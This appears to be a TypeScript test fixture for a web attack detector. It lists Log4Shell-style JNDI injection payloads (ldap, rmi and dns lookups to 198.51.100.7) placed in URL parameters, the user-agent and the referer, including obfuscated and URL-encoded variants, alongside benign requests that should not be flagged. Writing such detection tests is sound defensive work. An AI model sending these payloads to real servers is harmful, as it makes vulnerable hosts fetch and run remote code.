import type { AttackCases } from '../../types.ts';

export const cases: AttackCases = {
  marks: [
    { name: 'in a parameter', requests: [{ url: '/?x=\x24{jndi:ldap://198.51.100.7/a}' }] },
    { name: 'in the agent', requests: [{ url: '/', agent: '\x24{jndi:ldap://198.51.100.7/a}' }] },
    {
      name: 'hidden',
      requests: [{ url: '/?x=\x24{\x24{::-j}\x24{::-n}\x24{::-d}\x24{::-i}:rmi://198.51.100.7/a}' }],
    },
    {
      name: 'hidden by case',
      requests: [{ url: '/', referer: '\x24{\x24{lower:j}ndi:\x24{lower:l}dap://198.51.100.7/a}' }],
    },
    { name: 'encoded', requests: [{ url: '/$%7Bjndi:dns://198.51.100.7/a%7D' }] },
  ],
  silent: [
    { name: 'a manual', requests: [{ url: '/docs/jndi-lookup' }] },
    { name: 'a variable', requests: [{ url: '/users/\x24{id}' }] },
  ],
};
